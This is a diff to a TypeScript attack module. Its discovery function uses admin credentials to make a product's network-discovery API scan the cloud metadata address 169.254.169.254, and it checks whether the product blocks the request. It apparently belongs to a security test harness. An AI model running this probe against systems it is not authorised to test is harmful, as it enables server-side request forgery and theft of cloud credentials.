@@ -1,4 +1,5 @@
 import { connect } from 'node:net';
+import { AttackImpossible } from './attack.ts';
 import type { Attack, Target } from './attack.ts';
 import { administrator } from './stranger.ts';
 
@@ -96,7 +97,13 @@ async function discovery(target: Target): Promise<string | undefined> {
   const admin = await administrator(target);
   const credentials = [{ version: 'v2c', community: 'public' }];
   const body = { site: 1, ranges: ['169.254.169.254/32'], credentials };
-  const { text } = await admin.send('POST', '/api/v1/customers/1/discoveries', body);
+  const { customers } = JSON.parse((await admin.get('/api/v1/mt/user-choices')).text) as {
+    customers: { id: number }[];
+  };
+  const [customer] = customers;
+  if (customer === undefined) throw new AttackImpossible('the product has no customer');
+  const path = `/api/v1/customers/${String(customer.id)}/discoveries`;
+  const { text } = await admin.send('POST', path, body);
   return text.includes('DISCOVERY_ADDRESS_BLOCKED') ? undefined : text.slice(0, 200);
 }
 
